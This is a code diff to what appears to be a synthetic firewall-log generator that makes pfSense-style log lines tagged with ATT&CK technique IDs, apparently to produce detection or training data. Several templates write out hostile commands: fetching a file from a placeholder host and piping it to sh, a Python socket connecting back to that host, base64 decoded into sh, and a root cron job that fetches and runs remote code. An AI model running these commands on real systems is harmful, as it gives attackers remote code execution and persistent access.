@@ -16,8 +16,7 @@ def _row(envelope: Envelope, values: ProductValues, message: str) -> str:
     interface, direction, action, protocol, source, target, *flags = message.split(" ")
     source, source_port = source.rsplit(":", 1)
     target, target_port = target.rsplit(":", 1)
-    rule, tracker = values["n9"], values["id9"]
-    tracker = values.setdefault("tracker", world.pick([str(tracker), "1000000103", world.hex(32)]))
+    rule, tracker = envelope.kept.setdefault("rule", (world.number(2, 120), world.pick([world.number(10**9, 2 * 10**9), 1000000103, world.hex(32)])))
     head = f"{rule},,,{tracker},{interface},match,{action},{direction}"
     if ":" in source:
         rest = f"6,0x00,0x{world.hex(5)},{world.number(1, 255)},{protocol},{ {'tcp': 6, 'udp': 17}.get(protocol, 58) },{world.number(20, 900)},{source},{target}"
@@ -71,8 +70,7 @@ FW@T1090 /firewall_nat_edit.php: Configuration Change: {adm}@{wan} (Local Databa
 DE@T1562.001 /status_services.php: <<Stopping service suricata|Stopping service pfblockerng|Stopping service syslogd>> by {adm}@{wan} (Local Database)
 RX+@T1190,T1059.004 /diag_command.php: Configuration Change: {adm}@{wan}: shell command executed: <<fetch -o /tmp/{word} http://{wan2}/{word} && sh /tmp/{word}|/usr/local/bin/python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("{wan2}",{port}))'|echo {long} | openssl base64 -d | sh>>
 EX@T1602.002 /diag_backup.php: {word}@{wan} (Local Database): downloaded config.xml with RRD data and unencrypted passwords
-C2@T1071.004 unbound>> [{n}:0] info: {lan} {dga}. TXT IN NOERROR 0.{many} 0 {many} (pfblockerng DNSBL malware-c2)
-AT@T1078 openvpn>> {user}/{wan}:{port} MULTI: new connection by client '{user}' will cause previous active sessions by this client to be dropped. Previous {wan2} {few} min ago
+C2@T1071.004 unbound>> [{n}:0] info: {lan} {dga}. TXT IN NOERROR 0.{many} 0 {many}
 PT@T1053.003 /packages/cron: Configuration Change: {adm}@{wan}: Cron: added root */5 * * * * <<fetch -qo - http://{wan2}/{word}|sh /var/tmp/.{word}>>
 """, r"""
 LO /index.php: Successful login for user '{adm}' from: {lan} (<<Local Database|LDAP/{host}>>)
